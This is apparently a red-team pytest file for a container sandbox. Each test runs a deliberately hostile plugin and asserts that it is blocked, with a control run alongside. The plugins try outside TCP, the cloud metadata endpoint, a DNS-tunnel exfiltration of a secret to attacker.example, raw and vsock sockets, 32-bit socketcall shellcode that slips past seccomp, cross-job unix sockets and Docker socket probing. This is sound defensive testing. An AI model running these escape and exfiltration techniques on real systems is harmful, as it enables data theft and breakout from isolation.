"""Network attacks from inside the compute phase (checklist A): every one meets `network_mode=none`.

Each attack is a malicious preprocess plugin run in the real sandbox; each has a control that shows
the same code path works where it is allowed (loopback inside the container, a host-side client).
"""

from __future__ import annotations

import errno
import json
import platform
import secrets
import signal
import socket
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from tests.redteam.conftest import Listener, host_addresses, preprocess, run_compute

pytestmark = pytest.mark.docker


def test_tcp_to_an_outside_address_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
    plugin = preprocess(
        tmp_path,
        "net-outside",
        """
        attempt("cloudflare", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3).close())
        attempt("google_dns", lambda: socket.create_connection(("8.8.8.8", 53), timeout=3).close())
        attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=3).close())
        # control: TCP itself works inside the container, on its own loopback
        server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
        attempt("own_loopback", lambda: socket.create_connection(server.getsockname(), timeout=3).close() or "ok")
    """,
    )
    out = run_compute(sandbox, plugin)
    assert out.result and out.result["ok"], out.stderr
    assert out.errno("cloudflare") == errno.ENETUNREACH
    assert out.errno("google_dns") == errno.ENETUNREACH
    assert out.errno("ipv6") in (errno.ENETUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT)
    assert out.ok("own_loopback") == "ok"


def test_cloud_metadata_endpoint_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
    plugin = preprocess(
        tmp_path,
        "net-metadata",
        """
        attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=3).close())
        attempt("metadata_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"x", ("169.254.169.254", 80)))
        attempt("control_udp_loopback", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"x", ("127.0.0.1", 9)))
    """,
    )
    out = run_compute(sandbox, plugin)
    assert out.errno("metadata") == errno.ENETUNREACH
    assert out.errno("metadata_udp") == errno.ENETUNREACH
    assert out.ok("control_udp_loopback") == 1


def test_host_listeners_on_loopback_bridge_and_primary_ip_get_zero_connections(
    sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]
) -> None:
    marker = secrets.token_hex(8)
    tcp = Listener("tcp", host="0.0.0.0")
    listeners.append(tcp)
    targets = host_addresses(docker_client)
    plugin = preprocess(
        tmp_path,
        "net-host",
        f'''
        for host in {targets!r}:
            def hit(host=host):
                s = socket.create_connection((host, {tcp.port}), timeout=3)
                s.sendall(b"{marker}"); s.close()
            attempt("tcp_" + host, hit)
    ''',
    )
    out = run_compute(sandbox, plugin)
    assert out.result and out.result["ok"], out.stderr
    assert out.errno("tcp_127.0.0.1") == errno.ECONNREFUSED  # its own loopback, not the host's
    for host in targets:
        if host != "127.0.0.1":
            assert out.errno("tcp_" + host) == errno.ENETUNREACH, host
    time.sleep(0.5)
    assert tcp.hits == []
    # control: the listener does record a connection from the host itself
    with socket.create_connection(("127.0.0.1", tcp.port), timeout=3) as s:
        s.sendall(b"control-" + marker.encode())
    assert _wait_for(lambda: tcp.received(b"control-" + marker.encode()))
    assert tcp.received(marker.encode()) == tcp.received(b"control-" + marker.encode())


def test_dns_lookup_fails_and_no_query_reaches_a_host_resolver(
    sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]
) -> None:
    marker = secrets.token_hex(8)
    dns = Listener("udp", port=53)
    listeners.append(dns)
    targets = [h for h in host_addresses(docker_client) if h != "127.0.0.1"]
    plugin = preprocess(
        tmp_path,
        "net-dns",
        f'''
        secret = str(df["secret"].iloc[0]).encode().hex()[:40]
        attempt("tunnel", lambda: socket.getaddrinfo(secret + ".{marker}.attacker.example", 53))
        attempt("localhost", lambda: socket.getaddrinfo("localhost", 80)[0][4][0])
        for host in {targets!r}:
            attempt("udp_" + host, lambda host=host: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                b"{marker}" + secret.encode(), (host, {dns.port})))
    ''',
    )
    out = run_compute(sandbox, plugin)
    assert out.obs["tunnel"]["type"] == "gaierror"
    assert out.ok("localhost") in ("127.0.0.1", "::1")  # control: /etc/hosts works, the resolver does not
    for host in targets:
        assert out.errno("udp_" + host) == errno.ENETUNREACH
    time.sleep(0.5)
    assert dns.received(marker.encode()) == []
    # control: a datagram from the host does arrive
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"control" + marker.encode(), ("127.0.0.1", dns.port))
    assert _wait_for(lambda: dns.received(b"control" + marker.encode()))


def test_only_the_loopback_interface_exists(sandbox: Any, tmp_path: Path) -> None:
    plugin = preprocess(
        tmp_path,
        "net-interfaces",
        """
        attempt("interfaces", lambda: [name for _, name in socket.if_nameindex()])
        attempt("routes", lambda: open("/proc/net/route").read().splitlines()[1:])
        attempt("hostname", lambda: socket.gethostname())
    """,
    )
    out = run_compute(sandbox, plugin)
    assert out.ok("interfaces") == ["lo"]
    assert out.ok("routes") == []
    assert out.ok("hostname") == "sandbox"  # not the host's name


def test_raw_and_packet_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
    plugin = preprocess(
        tmp_path,
        "net-raw",
        """
        attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
        attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
        attempt("raw_tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
        attempt("control_dgram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close() or "ok")
    """,
    )
    out = run_compute(sandbox, plugin)
    for name in ("packet", "raw_icmp", "raw_tcp"):
        assert out.errno(name) == errno.EPERM, name  # no CAP_NET_RAW
    assert out.ok("control_dgram") == "ok"


def test_vsock_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
    """AF_VSOCK is not confined by the network namespace: on a VM host it reaches the hypervisor.

    Docker's default seccomp profile refuses it only since engine 23 (moby/moby#44562); the runner
    passes its own profile (cleanroom/runner/seccomp.json), which refuses it on every engine. Only
    the socket is made: the attack never connects anywhere.
    """
    plugin = preprocess(
        tmp_path,
        "net-vsock",
        """
        for kind in ("SOCK_STREAM", "SOCK_DGRAM", "SOCK_SEQPACKET"):
            attempt("vsock_" + kind, lambda kind=kind: socket.socket(40, getattr(socket, kind)).close() or "created")
        attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET).close() or "created")  # AF_ALG
        # controls: the same call makes the sockets a job may have
        attempt("control_unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close() or "created")
        attempt("control_inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close() or "created")
        attempt("control_inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close() or "created")
    """,
    )
    out = run_compute(sandbox, plugin)
    for name in ("control_unix", "control_inet", "control_inet6"):
        assert out.ok(name) == "created", name
    for kind in ("SOCK_STREAM", "SOCK_DGRAM", "SOCK_SEQPACKET"):
        assert out.errno("vsock_" + kind) in (errno.EPERM, errno.EACCES), kind
    assert out.errno("alg") in (errno.EPERM, errno.EACCES)


# The 32-bit socketcall(2) attack: x86_64 machine code run in a forked child (a crash stays there).
SOCKETCALL_VSOCK = """
    import ctypes, mmap, struct
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    page = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)  # rwx, MAP_32BIT
    if page in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "mmap")
    args = page + 2048
    ctypes.memmove(args, struct.pack("<III", 40, 1, 0), 12)  # socket(AF_VSOCK, SOCK_STREAM, 0), behind a pointer
    # push rbx; mov eax, 102 (socketcall); mov ebx, 1 (SYS_SOCKET); mov ecx, args; int 0x80; pop rbx; ret
    INT80 = b"\\x53\\xb8\\x66\\0\\0\\0\\xbb\\x01\\0\\0\\0\\xb9" + struct.pack("<I", args) + b"\\xcd\\x80\\x5b\\xc3"
    # control, the native ABI: mov eax, 41 (socket); mov edi, 1 (AF_UNIX); mov esi, 1; xor edx, edx; syscall; ret
    NATIVE = b"\\xb8\\x29\\0\\0\\0\\xbf\\x01\\0\\0\\0\\xbe\\x01\\0\\0\\0\\x31\\xd2\\x0f\\x05\\xc3"

    def in_child(code):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            ctypes.memmove(page, code, len(code))
            os.write(w, str(ctypes.CFUNCTYPE(ctypes.c_long)(page)()).encode())
            os._exit(0)
        os.close(w)
        answer = os.read(r, 64).decode()
        os.close(r)
        status = os.waitpid(pid, 0)[1]
        return {"result": int(answer) if answer else None,
                "signal": os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}

    attempt("socketcall_vsock", lambda: in_child(INT80))
    attempt("control_native_unix", lambda: in_child(NATIVE))
"""


def test_vsock_through_the_32_bit_socketcall_is_refused(
    sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """socketcall(2) hides the address family behind a pointer, so seccomp cannot see AF_VSOCK there.

    Docker's profile allows the 32-bit ABI (`int 0x80` from a 64-bit process): with its archMap the
    socket rules do not stop the attack (the control run below). The runner's profile keeps the
    native ABI only, so the first 32-bit syscall kills the process (SIGSYS).
    """
    if platform.machine() not in ("x86_64", "AMD64"):
        pytest.skip("the int 0x80 path is x86_64's")
    plugin = preprocess(tmp_path, "net-vsock-socketcall", SOCKETCALL_VSOCK)
    out = run_compute(sandbox, plugin)
    native = out.ok("control_native_unix")
    assert native["signal"] is None and native["result"] >= 0  # the machine-code path works in the sandbox
    attack = out.ok("socketcall_vsock")
    assert attack["signal"] == signal.SIGSYS and attack["result"] is None, attack

    # control: the same attack under Docker's archMap (32-bit ABI allowed) is not stopped by seccomp
    from cleanroom.runner import isolation as sb

    docker_arches = json.loads(sb.seccomp_profile())
    for entry in docker_arches["archMap"]:
        entry["subArchitectures"] = {"SCMP_ARCH_X86_64": ["SCMP_ARCH_X86", "SCMP_ARCH_X32"]}.get(entry["architecture"])
    monkeypatch.setattr(sb, "_seccomp", lambda: (json.dumps(docker_arches), docker_arches))
    loose = run_compute(sandbox, plugin).ok("socketcall_vsock")
    assert loose["signal"] != signal.SIGSYS, loose  # a socket, or the kernel's own answer (no ia32/vsock)


def test_abstract_unix_socket_cannot_rendezvous_with_a_concurrent_job(sandbox: Any, tmp_path: Path) -> None:
    name = "cleanroom-rdv-" + secrets.token_hex(6)
    # job A binds the abstract name, proves it can reach itself (control), then waits for a visitor
    job_a = preprocess(
        tmp_path,
        "net-rdv-a",
        f"""
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind("\\0{name}"); srv.listen(4); srv.settimeout(0.2)
        def self_connect():
            s = socket.socket(socket.AF_UNIX); s.connect("\\0{name}"); s.sendall(b"self"); s.close()
            return "ok"
        attempt("self_connect", self_connect)
        visitors, deadline = [], time.time() + 8
        while time.time() < deadline:
            try:
                conn, _ = srv.accept(); visitors.append(conn.recv(100).decode())
            except OSError:
                pass
        OBS["visitors"] = {{"ok": True, "value": visitors}}
    """,
    )
    job_b = preprocess(
        tmp_path,
        "net-rdv-b",
        f"""
        time.sleep(3)  # A listens by now
        def visit():
            s = socket.socket(socket.AF_UNIX); s.connect("\\0{name}"); s.sendall(b"visitor-b")
        attempt("visit", visit)
    """,
    )
    results: dict[str, Any] = {}
    thread = threading.Thread(target=lambda: results.update(a=run_compute(sandbox, job_a)))
    thread.start()
    time.sleep(1.0)
    results["b"] = run_compute(sandbox, job_b)
    thread.join(timeout=90)
    assert results["a"].ok("self_connect") == "ok"
    assert results["b"].errno("visit") == errno.ECONNREFUSED
    assert results["a"].ok("visitors") == ["self"]  # only itself: B never got through


def test_no_docker_or_containerd_socket_is_reachable(sandbox: Any, tmp_path: Path) -> None:
    plugin = preprocess(
        tmp_path,
        "net-docker-sock",
        """
        import stat
        for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                     "/var/run/crio/crio.sock", "/run/podman/podman.sock", "/run/user/0/docker.sock"):
            attempt("sock_" + path, lambda path=path: socket.socket(socket.AF_UNIX).connect(path))
        OBS["docker_host"] = {"ok": True, "value": os.environ.get("DOCKER_HOST")}
        # control: a socket the plugin makes itself is found by the same search
        own = socket.socket(socket.AF_UNIX); own.bind("/tmp/own.sock")
        found = []
        for root, dirs, files in os.walk("/", onerror=lambda e: None):
            if root.startswith(("/proc", "/sys")):
                dirs[:] = []
                continue
            for f in files:
                try:
                    if stat.S_ISSOCK(os.lstat(os.path.join(root, f)).st_mode):
                        found.append(os.path.join(root, f))
                except OSError:
                    pass
        OBS["sockets"] = {"ok": True, "value": sorted(found)}
    """,
    )
    out = run_compute(sandbox, plugin, timeout=120)
    for key in [k for k in out.obs if k.startswith("sock_")]:
        assert out.errno(key) in (errno.ENOENT, errno.EACCES), key
    assert out.obs["docker_host"]["value"] is None
    assert out.ok("sockets") == ["/tmp/own.sock"]


def _wait_for(predicate: Any, timeout: float = 3.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False
